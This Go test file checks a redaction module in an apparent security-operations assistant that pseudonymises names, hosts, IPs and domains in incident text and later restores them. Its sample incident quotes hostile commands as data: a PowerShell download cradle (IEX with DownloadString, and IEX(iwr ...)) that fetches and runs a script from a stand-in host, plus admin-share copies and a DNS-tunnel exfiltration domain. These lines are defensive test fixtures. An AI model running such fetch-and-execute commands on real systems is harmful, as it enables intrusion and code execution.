package redact

import (
	"bytes"
	"flag"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/socpilot/socpilot"
)

var update = flag.Bool("update", false, "rewrite testdata/*.golden")

func testKey(b byte) []byte { return bytes.Repeat([]byte{b}, KeySize) }

// incidentEntities is a realistic incident's entity set, shaped as
// Sentinel returns them.
func incidentEntities() []socpilot.Entity {
	return []socpilot.Entity{
		{Kind: socpilot.KindAccount, Properties: map[string]any{"accountName": "adele.vance", "upnSuffix": "contoso.com",
			"displayName": "Adele Vance", "ntDomain": "CONTOSO", "aadUserId": "6f1f5c3e-0000-0000-0000-000000000001", "friendlyName": "adele.vance"}},
		{Kind: socpilot.KindAccount, Properties: map[string]any{"accountName": "svc-backup", "ntDomain": "CONTOSO", "friendlyName": "CONTOSO\\svc-backup"}},
		{Kind: socpilot.KindHost, Properties: map[string]any{"hostName": "WS-FIN-023", "dnsDomain": "corp.contoso.com", "netBiosName": "WS-FIN-023", "osFamily": "Windows"}},
		{Kind: socpilot.KindHost, Properties: map[string]any{"fqdn": "dc01.corp.contoso.com"}},
		{Kind: socpilot.KindIP, Properties: map[string]any{"address": "185.220.101.4"}},
		{Kind: socpilot.KindIP, Properties: map[string]any{"address": "10.20.30.40"}},
		{Kind: socpilot.KindURL, Properties: map[string]any{"url": "https://cdn-update.xyz/payload/p.ps1"}},
		{Kind: socpilot.KindMailbox, Properties: map[string]any{"mailboxPrimaryAddress": "megan.bowen@contoso.com", "displayName": "Megan Bowen", "upn": "megan.bowen@contoso.com"}},
		{Kind: socpilot.KindMailMessage, Properties: map[string]any{"sender": "billing@fakeinvoices.top", "recipient": "megan.bowen@contoso.com",
			"p1Sender": "bounce@mailer.fakeinvoices.top", "p1SenderDomain": "mailer.fakeinvoices.top", "senderIP": "203.0.113.77", "subject": "Invoice overdue"}},
		{Kind: socpilot.KindDNSResolution, Properties: map[string]any{"domainName": "a1b2c3.tunnel.exfil-dns.net"}},
		{Kind: socpilot.KindProcess, Properties: map[string]any{"commandLine": `powershell.exe -enc SQBFAFgA`}},
	}
}

// learnedValues are the originals LearnEntities must hide.
var learnedValues = []string{
	"adele.vance", "adele.vance@contoso.com", "contoso.com", "Adele Vance", "CONTOSO", "svc-backup",
	"WS-FIN-023", "WS-FIN-023.corp.contoso.com", "corp.contoso.com", "dc01.corp.contoso.com", "dc01",
	"185.220.101.4", "10.20.30.40", "cdn-update.xyz", "megan.bowen@contoso.com", "megan.bowen", "Megan Bowen",
	"billing@fakeinvoices.top", "fakeinvoices.top", "bounce@mailer.fakeinvoices.top", "mailer.fakeinvoices.top",
	"203.0.113.77", "a1b2c3.tunnel.exfil-dns.net",
}

const incidentText = `Title: Suspicious PowerShell download cradle on WS-FIN-023 by Adele Vance
Description: User adele.vance@contoso.com (CONTOSO\adele.vance) signed in from 185.220.101.4 and ran
powershell.exe -nop -w hidden -c "IEX (New-Object System.Net.WebClient).DownloadString('https://cdn-update.xyz/payload/p.ps1')"
on WS-FIN-023.corp.contoso.com, then copied files to \\dc01\c$ and \\WS-FIN-023\ADMIN$ as CONTOSO\svc-backup.
net use \\10.20.30.40\share /user:adele.vance@contoso.com
Megan Bowen <megan.bowen@contoso.com> received "Invoice overdue" from billing@fakeinvoices.top via bounce@mailer.fakeinvoices.top (203.0.113.77).
DNS: 4000 TXT queries for a1b2c3.tunnel.exfil-dns.net; beacon to http://185.220.101.4/p.ps1.
SigninLogs | where UserPrincipalName =~ "adele.vance@contoso.com" | summarize count() by IPAddress, bin(TimeGenerated, 1h)
`

func TestNoLearnedValueSurvives(t *testing.T) {
	p := New(testKey(1))
	p.LearnEntities(incidentEntities())
	out := p.Redact(incidentText)
	low := strings.ToLower(out)
	for _, v := range learnedValues {
		if strings.Contains(low, strings.ToLower(v)) {
			t.Errorf("%q survives Redact:\n%s", v, out)
		}
	}
	// What is not personal stays readable.
	for _, keep := range []string{"powershell.exe", "System.Net.WebClient", "DownloadString", "SigninLogs", "UserPrincipalName",
		"summarize count() by IPAddress", "bin(TimeGenerated, 1h)", "Invoice overdue", "/payload/p.ps1", `c$`, "ADMIN$"} {
		if !strings.Contains(out, keep) {
			t.Errorf("%q was redacted:\n%s", keep, out)
		}
	}
	if got := p.Rehydrate(out); got != incidentText {
		t.Errorf("Rehydrate(Redact(x)) != x:\n%s", cmp.Diff(incidentText, got))
	}
	golden(t, "incident.golden", out)
}

func golden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run with -update to create it)", err)
	}
	if diff := cmp.Diff(string(want), got); diff != "" {
		t.Errorf("%s (-want +got):\n%s", name, diff)
	}
}

// tokenShape matches the token forms, to assert the kind a value became.
func shape(s string) string {
	s = regexp.MustCompile(`_[0-9a-f]{6,16}`).ReplaceAllString(s, "_X")
	return s
}

func TestRedactPatterns(t *testing.T) {
	tests := []struct{ in, want string }{
		// Pattern-found values nobody learned.
		{`net use -u adele.vance@contoso.com`, `net use -u user_X@domain_X.example`},
		{`copy \\WS-FIN-023\c$ \\fs01.corp.local\share`, `copy \\HOST_X\c$ \\HOST_X.domain_X.example\share`},
		{`IEX(iwr http://185.220.101.4/p.ps1)`, `IEX(iwr http://IP_X/p.ps1)`},
		{`GET https://evil.example-cdn.net:8443/a?b=c`, `GET https://domain_X.example:8443/a?b=c`},
		{`hxxps://bad-site.ru/login`, `hxxps://domain_X.example/login`},
		{`callback to http://[2001:db8::1]:80/x`, `callback to http://[IP_X]:80/x`},
		{`from 10.1.2.3, 192.168.0.10 and 100.64.1.1`, `from LANIP_X, LANIP_X and LANIP_X`},
		{`peer fe80::1c2d:3e4f:5a6b:7c8d%eth0 and 2a01:111:f400::5`, `peer LANIP_X%eth0 and IP_X`},
		{`resolve payload.attacker.xyz now`, `resolve domain_X.example now`},
		{`URL http://intranet/wiki`, `URL http://HOST_X/wiki`},
		{`paths: /home/x?mail=bob@fabrikam.com`, `paths: /home/x?mail=user_X@domain_X.example`},
		// Left alone: file names, .NET and KQL names, times, versions,
		// loopback, public services, tokens already there.
		{`powershell.exe -File run.ps1 data.zip readme.md setup.py`, `powershell.exe -File run.ps1 data.zip readme.md setup.py`},
		{`(New-Object System.Net.WebClient).DownloadFile()`, `(New-Object System.Net.WebClient).DownloadFile()`},
		{`SecurityEvent | where EventID == 4625 | summarize count() by Account, bin(TimeGenerated, 5m)`, `SecurityEvent | where EventID == 4625 | summarize count() by Account, bin(TimeGenerated, 5m)`},
		{`at 12:30:45 on build 10.0.19041.1 (v1.2.3.4.5)`, `at 12:30:45 on build 10.0.19041.1 (v1.2.3.4.5)`},
		{`listen 127.0.0.1 and ::1 and 0.0.0.0`, `listen 127.0.0.1 and ::1 and 0.0.0.0`},
		{`sign in at https://login.microsoftonline.com/common and raw.githubusercontent.com`, `sign in at https://login.microsoftonline.com/common and raw.githubusercontent.com`},
		{`std::vector<int> a::b`, `std::vector<int> a::b`},
		{`already USER_1a2b3c and user_1a2b3c@domain_4d5e6f.example`, `already USER_X and user_X@domain_X.example`},
		{`technique T1059.001 and CVE-2024-1234`, `technique T1059.001 and CVE-2024-1234`},
	}
	for _, tt := range tests {
		p := New(testKey(2))
		got := p.Redact(tt.in)
		if shape(got) != tt.want {
			t.Errorf("Redact(%q)\n got %q\nwant %q", tt.in, shape(got), tt.want)
		}
		if back := p.Rehydrate(got); back != tt.in {
			t.Errorf("Rehydrate(Redact(%q)) = %q", tt.in, back)
		}
	}
}

func TestLearnedValues(t *testing.T) {
	p := New(testKey(3))
	p.Learn("account", "ad")      // too short to hide in free text
	p.Learn("account", "jdoe")    // a word-bounded name
	p.Learn("host", "WS-FIN-023") // not inside a longer name
	p.Learn("person", "Adele Vance")
	p.Learn("ip", "::ffff:10.0.0.5")
	tests := []struct{ in, want string }{
		{`jdoe and JDOE and jdoes and xjdoe`, `USER_X and USER_X and jdoes and xjdoe`},
		{`ws-fin-023, WS-FIN-0234, old-WS-FIN-023`, `HOST_X, WS-FIN-0234, old-WS-FIN-023`},
		{`ad ran it; ADELE VANCE approved`, `ad ran it; PERSON_X approved`},
		{`C:\Users\jdoe\AppData`, `C:\Users\USER_X\AppData`},
		{`ws-fin-023.other.org is the same host`, `HOST_X.domain_X.example is the same host`},
	}
	for _, tt := range tests {
		if got := shape(p.Redact(tt.in)); got != tt.want {
			t.Errorf("Redact(%q)\n got %q\nwant %q", tt.in, got, tt.want)
		}
	}
	// Same token for the same value however it is written.
	if a, b := p.Redact("jdoe"), p.Redact("JDoe"); a != b {
		t.Errorf("case changes the token: %s vs %s", a, b)
	}
	// The account and the local part of its UPN are the same person.
	if a, b := p.Redact("jdoe"), p.Redact("jdoe@contoso.com"); !strings.HasPrefix(b, strings.ToLower(a)+"@") {
		t.Errorf("account %s and UPN %s do not share the user token", a, b)
	}
}

func TestStableAcrossInstances(t *testing.T) {
	a, b, c := New(testKey(7)), New(testKey(7)), New(testKey(8))
	es := incidentEntities()
	a.LearnEntities(es)
	// Another run learning in another order, in two incidents.
	b.LearnEntities(es[5:])
	b.LearnEntities(es[:5])
	c.LearnEntities(es)
	ra, rb, rc := a.Redact(incidentText), b.Redact(incidentText), c.Redact(incidentText)
	if ra != rb {
		t.Errorf("same key, different output:\n%s", cmp.Diff(ra, rb))
	}
	if ra == rc || shape(ra) != shape(rc) {
		t.Errorf("different keys must give different tokens of the same kinds")
	}
	for tok := range a.Mapping() {
		if _, ok := c.Mapping()[tok]; ok {
			t.Errorf("token %s produced by both keys", tok)
		}
	}
}

func TestRehydrateCaseAndShape(t *testing.T) {
	p := New(testKey(4))
	p.LearnEntities(incidentEntities())
	out := p.Redact("adele.vance@contoso.com on WS-FIN-023.corp.contoso.com from 185.220.101.4")
	// Models change case and sometimes drop .example.
	variants := []string{out, tokenRE.ReplaceAllStringFunc(out, strings.ToUpper), tokenRE.ReplaceAllStringFunc(out, strings.ToLower), strings.ReplaceAll(out, ".example", "")}
	for _, v := range variants[:3] {
		if got := p.Rehydrate(v); got != "adele.vance@contoso.com on WS-FIN-023.corp.contoso.com from 185.220.101.4" {
			t.Errorf("Rehydrate(%q) = %q", v, got)
		}
	}
	if got := p.Rehydrate(variants[3]); strings.Contains(strings.ToLower(got), "domain_") {
		t.Errorf("Rehydrate without .example left a token: %q", got)
	}
	// A user token the model put at a domain on its own is rehydrated part by part.
	user := p.Redact("adele.vance")
	dom := p.Redact("corp.contoso.com")
	if got := p.Rehydrate(strings.ToLower(user) + "@" + dom); got != "adele.vance@corp.contoso.com" {
		t.Errorf("composite built by the model: %q", got)
	}
	// Unknown tokens are left as they are.
	if got := p.Rehydrate("HOST_000000 and user_ffffff@domain_eeeeee.example"); got != "HOST_000000 and user_ffffff@domain_eeeeee.example" {
		t.Errorf("unknown tokens changed: %q", got)
	}
}

func TestMappingAndRoundTripOfLearned(t *testing.T) {
	p := New(testKey(5))
	p.LearnEntities(incidentEntities())
	m := p.Mapping()
	if len(m) == 0 {
		t.Fatal("empty mapping")
	}
	for _, v := range learnedValues {
		red := p.Redact(v)
		if red == v {
			t.Errorf("%q not redacted", v)
		}
		if got := p.Rehydrate(red); got != v {
			t.Errorf("Rehydrate(Redact(%q)) = %q (via %q)", v, got, red)
		}
	}
	for tok, orig := range m {
		if got := p.Rehydrate(tok); got != orig {
			t.Errorf("Rehydrate(%s) = %q, want %q", tok, got, orig)
		}
	}
}

func TestStreamRehydrator(t *testing.T) {
	p := New(testKey(6))
	p.LearnEntities(incidentEntities())
	answer := p.Redact("Reset adele.vance@contoso.com, isolate WS-FIN-023.corp.contoso.com and block 185.220.101.4. Check CONTOSO\\svc-backup.")
	want := p.Rehydrate(answer)
	check := func(chunks []string) {
		t.Helper()
		var got strings.Builder
		write, flush := p.StreamRehydrator(func(s string) { got.WriteString(s) })
		for _, c := range chunks {
			write(c)
		}
		flush()
		if got.String() != want {
			t.Errorf("chunks %q\n got %q\nwant %q", chunks, got.String(), want)
		}
	}
	for i := 0; i <= len(answer); i++ {
		check([]string{answer[:i], answer[i:]})
	}
	for size := 1; size <= 9; size++ {
		var chunks []string
		for i := 0; i < len(answer); i += size {
			chunks = append(chunks, answer[i:min(i+size, len(answer))])
		}
		check(chunks)
	}
	// Text flows out before the stream ends when no token can be pending.
	var got []string
	write, _ := p.StreamRehydrator(func(s string) { got = append(got, s) })
	write("Block the address now ")
	if len(got) != 1 {
		t.Errorf("plain text held back: %q", got)
	}
}

func FuzzRedactRehydrate(f *testing.F) {
	f.Add(incidentText, "adele.vance@contoso.com", uint8(0))
	f.Add(`\\WS-FIN-023\c$ -u adele.vance@contoso.com http://185.220.101.4/p.ps1`, "WS-FIN-023", uint8(3))
	f.Add("user_abcdef@domain_123456.example HOST_ABCDEF.domain_000000.example [::1] fe80::1%1", "fe80::1", uint8(5))
	kinds := []string{"upn", "account", "person", "host", "url", "ip", "domain", "ntdomain", "email", "other"}
	f.Fuzz(func(t *testing.T, s, value string, kind uint8) {
		// A fresh pseudonymiser per input, so a saved failure reproduces on
		// its own; the input also teaches it a value of some kind, so the
		// learning paths are fuzzed, not only the pattern matching.
		p := New(testKey(9))
		p.LearnEntities(incidentEntities())
		p.Learn(kinds[int(kind)%len(kinds)], value)
		red := p.Redact(s)
		back := p.Rehydrate(red)
		if again := p.Redact(red); again != red {
			t.Errorf("Redact is not idempotent:\n%q\n%q", red, again)
		}
		var b strings.Builder
		write, flush := p.StreamRehydrator(func(x string) { b.WriteString(x) })
		for i := 0; i < len(red); i += 5 {
			write(red[i:min(i+5, len(red))])
		}
		flush()
		if b.String() != back {
			t.Errorf("streamed rehydration differs:\n%q\n%q", b.String(), back)
		}
	})
}

func TestLoadOrCreateKey(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "state")
	k1, err := LoadOrCreateKey(dir)
	if err != nil {
		t.Fatal(err)
	}
	if len(k1) != KeySize {
		t.Fatalf("key has %d bytes", len(k1))
	}
	st, err := os.Stat(filepath.Join(dir, KeyFile))
	if err != nil {
		t.Fatal(err)
	}
	if st.Mode().Perm() != 0o600 {
		t.Errorf("mode %v, want 0600", st.Mode().Perm())
	}
	k2, err := LoadOrCreateKey(dir)
	if err != nil || !bytes.Equal(k1, k2) {
		t.Errorf("second load: %v, equal=%v", err, bytes.Equal(k1, k2))
	}
	if err := os.WriteFile(filepath.Join(dir, KeyFile), []byte("short"), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := LoadOrCreateKey(dir); err == nil || !strings.Contains(err.Error(), "has 5 bytes") {
		t.Errorf("corrupt key: err = %v", err)
	}
	entries, _ := os.ReadDir(dir)
	if len(entries) != 1 {
		t.Errorf("temporary files left behind: %v", entries)
	}
}

// BenchmarkRedact redacts the realistic incident text above (about 1 KB,
// 11 entities learned).
func BenchmarkRedact(b *testing.B) {
	p := New(testKey(1))
	p.LearnEntities(incidentEntities())
	b.SetBytes(int64(len(incidentText)))
	for b.Loop() {
		p.Redact(incidentText)
	}
}

func BenchmarkRehydrate(b *testing.B) {
	p := New(testKey(1))
	p.LearnEntities(incidentEntities())
	red := p.Redact(incidentText)
	b.SetBytes(int64(len(red)))
	for b.Loop() {
		p.Rehydrate(red)
	}
}

func TestRedactKeepsTheAnalystsWords(t *testing.T) {
	p := New([]byte("test key"))
	p.LearnEntities([]socpilot.Entity{{Kind: socpilot.KindMailMessage, Properties: map[string]any{"p1Sender": "accounts@fabrikam-invoicing.com"}},
		{Kind: socpilot.KindAccount, Properties: map[string]any{"accountName": "adele.vance", "upnSuffix": "contoso.com"}}})
	tests := []struct{ in, keep, hide string }{
		{"which accounts are involved?", "which accounts are involved?", ""},
		{"did accounts@fabrikam-invoicing.com send it?", "did ", "accounts@fabrikam-invoicing.com"},
		{"what did adele.vance do?", "what did ", "adele.vance"},
	}
	for _, tt := range tests {
		got := p.Redact(tt.in)
		if !strings.Contains(got, tt.keep) {
			t.Errorf("Redact(%q) = %q, want it to keep %q", tt.in, got, tt.keep)
		}
		if tt.hide != "" && strings.Contains(got, tt.hide) {
			t.Errorf("Redact(%q) = %q, still shows %q", tt.in, got, tt.hide)
		}
	}
}
